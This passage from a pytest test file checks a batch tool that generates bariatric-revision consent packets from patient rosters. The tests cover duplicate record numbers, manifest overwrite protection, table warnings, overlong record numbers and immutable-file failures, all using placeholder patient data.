    assert not partial.exists()
    assert not (out / "manifest.csv").exists()  # not the first run's


def test_one_record_written_three_ways_is_one_patient(tmp_path):
    """MRN-0042, mrn-0042 and MRN\u20130042 (an en dash) print alike on paper."""
    path = roster(tmp_path, row("MRN-0042"), row("mrn-0042"), row("MRN\u20130042"))
    result = run("batch", str(path), "--out-dir", str(tmp_path / "out"), "--check")
    assert result.exit_code == 1
    assert result.stderr.count("already has a bariatric-revision packet dated") == 2
    assert "1 valid row(s), 2 invalid" in result.stdout


def test_procedure_and_version_cells_are_trimmed_like_the_others(tmp_path):
    path = roster(tmp_path, row("MRN-1", procedure=" bariatric-revision ", table_version=" 2026.2"))
    result = run("batch", str(path), "--out-dir", str(tmp_path / "out"), "--check", "--json")
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout) == {"valid": 1, "invalid": 0}


def test_a_roster_where_the_manifest_goes_is_refused_not_overwritten(tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    path = roster(out, row("MRN-1"), name="manifest.csv")
    before = path.read_text()
    result = run("batch", str(path), "--out-dir", str(out))
    assert result.exit_code == 1
    assert "the roster manifest.csv is where this run writes its manifest" in result.stderr
    assert path.read_text() == before


def test_a_batch_key_that_is_not_a_file_is_named(tmp_path):
    out = tmp_path / "out"
    (out / ".consent-batch-key").mkdir(parents=True)
    result = run("batch", str(roster(tmp_path, row("MRN-1"))), "--out-dir", str(out))
    assert result.exit_code == 1
    assert ".consent-batch-key is not a file; remove it" in result.stderr


def test_a_tables_warnings_are_shown_once_by_a_run_and_by_check(tmp_path, tables_root, write_table):
    """Render warns of a key a table has that consent ignores; so does a batch run, once."""
    bundled = (tables_dir() / "bariatric-revision" / "2026.2.yaml").read_text(encoding="utf-8")
    write_table(
        bundled.replace("title:", "reviewed_in: 2026\ntitle:", 1), "bariatric-revision", "2026.2"
    )
    rows = roster(tmp_path, row("MRN-1"), row("MRN-2", name="Sam Roe"))
    tables = ["--tables", str(tables_root), "--no-bundled-tables"]
    for check in (["--check"], ["--jobs", "1"]):
        result = run("batch", str(rows), "--out-dir", str(tmp_path / "out"), *check, *tables)
        assert result.exit_code == 0, result.output
        warnings = [line for line in result.stderr.splitlines() if line.startswith("Warning:")]
        assert len(warnings) == 1 and "unknown key 'reviewed_in'" in warnings[0]
        assert "Alex" not in result.stderr and "MRN-1" not in result.stderr


def test_a_record_number_too_long_is_not_shown_as_another_patients(tmp_path):
    """Cut to 40 characters, row 2's 41-character number read as row 1's."""
    number = "1234567890" * 4
    rows = roster(tmp_path, row(number), row(number + "X"))
    result = run("batch", str(rows), "--out-dir", str(tmp_path / "out"), "--jobs", "1")
    assert result.exit_code == 1
    assert f"row 3 (record {number[:39]}…): record number is longer than 40" in result.stderr
    records = [entry["record_number"] for entry in manifest(tmp_path / "out")]
    assert records == [number, number[:39] + "…"]


def immutable(path: Path) -> None:
    if subprocess.run(["chattr", "+i", str(path)], check=False).returncode:
        pytest.skip("files cannot be made immutable here (chattr +i)")


def test_a_manifest_that_cannot_be_replaced_stops_the_run_before_any_packet(tmp_path):
    """It rendered every row and only then failed, leaving the last run's CSV listing
    other patients beside this run's packets."""
    out = tmp_path / "out"
    assert run("batch", str(roster(tmp_path, row("MRN-1"))), "--out-dir", str(out)).exit_code == 0
    immutable(out / "manifest.csv")
    try:
        result = run("batch", str(roster(tmp_path, row("MRN-2"))), "--out-dir", str(out))
    finally:
        subprocess.run(["chattr", "-i", str(out / "manifest.csv")], check=True)
    assert result.exit_code == 1
    assert "manifest.csv (an earlier run's): it would list other patients" in result.stderr
    assert not list(out.glob("MRN-2*"))


def test_an_old_packet_that_cannot_be_removed_is_named_as_such(tmp_path):
    out = tmp_path / "out"
    first = roster(tmp_path, row("MRN-1"))
    assert run("batch", str(first), "--out-dir", str(out), "--jobs", "1").exit_code == 0
    (packet,) = out.glob("MRN-1*.pdf")
    immutable(packet)
    try:
        renamed = roster(tmp_path, row("MRN-1", name="Sam Roe"), name="again.csv")
        result = run("batch", str(renamed), "--out-dir", str(out), "--jobs", "1")
    finally:
        subprocess.run(["chattr", "-i", str(packet)], check=True)
    assert result.exit_code == 1
    assert "an older packet under this name could not be removed: do not use it" in result.stderr
